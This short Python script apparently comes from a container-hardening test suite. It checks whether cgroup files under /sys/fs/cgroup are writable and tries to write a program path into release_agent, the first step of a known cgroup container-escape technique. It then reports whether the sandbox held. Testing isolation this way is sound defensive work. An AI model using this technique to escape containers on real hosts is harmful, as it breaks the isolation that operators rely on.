"""Lifts its limits and runs a program on the host through cgroups (release_agent)."""

import glob
import os

from attack import contained, escaped, refused, write

tried = 0
written = []
for folder, _, names in os.walk("/sys/fs/cgroup"):
    for name in names:
        path = os.path.join(folder, name)
        tried += 1
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        written.append(path)
    try:
        os.mkdir(os.path.join(folder, "x"))
        written.append(folder)
    except OSError:
        pass
(escaped if written else contained)(f"{len(written)} of {tried} cgroup files can be written: {written[:5]}")
for path in [*glob.glob("/sys/fs/cgroup/*/release_agent"), "/sys/fs/cgroup/release_agent"]:
    refused(path, lambda path=path: write(path, "/workspace/x"))
